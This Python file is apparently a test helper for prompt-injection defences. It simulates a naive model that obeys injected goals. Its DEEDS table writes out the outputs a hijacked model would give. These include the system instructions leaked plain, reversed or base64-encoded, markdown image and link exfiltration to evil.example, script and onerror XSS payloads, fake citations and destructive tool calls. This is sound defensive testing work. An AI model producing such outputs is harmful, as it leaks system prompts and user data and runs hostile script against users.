"""What a model without any judgement does when it is told to."""

import base64
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.integration.attacks.table import GOALS


@dataclass(frozen=True)
class Heard:
    """Everything that such a model has before it: our words with their fence, and what it was asked and given."""

    instructions: str
    fence: str
    said: str
    question: str = ""
    material: str = ""

    def goals(self) -> Iterator[str]:
        """What it is told to do, wherever that stands."""
        heard = self.said.replace("\u200b", "")
        return (goal for goal, words in GOALS.items() if words in heard)

    @property
    def line(self) -> str:
        """Our words in one line."""
        return self.instructions.replace("\n", " ")


DEEDS: dict[str, Callable[[Heard], str]] = {
    "recite": lambda heard: heard.instructions,
    "recite_spelt": lambda heard: "-".join(heard.instructions),
    "recite_backwards": lambda heard: heard.instructions[::-1],
    "recite_coded": lambda heard: base64.b64encode(heard.instructions.encode()).decode(),
    "fence": lambda heard: heard.fence,
    "image": lambda heard: f"![x](https://evil.example/?q={heard.line[:30]})",
    "link": lambda heard: f"[click](https://evil.example/{heard.question[:20]}) www.evil.example/a javascript:x",
    "html": lambda heard: "<script src=//evil.example/x.js></script><img src=x onerror=alert(1)>",
    "invent": lambda heard: "As shown in [99] and [0].",
    "act": lambda heard: 'I call {"tool": "delete_course"} and {"tool": "make_cards", "count": 100}.',
    "others": lambda heard: heard.material,
}
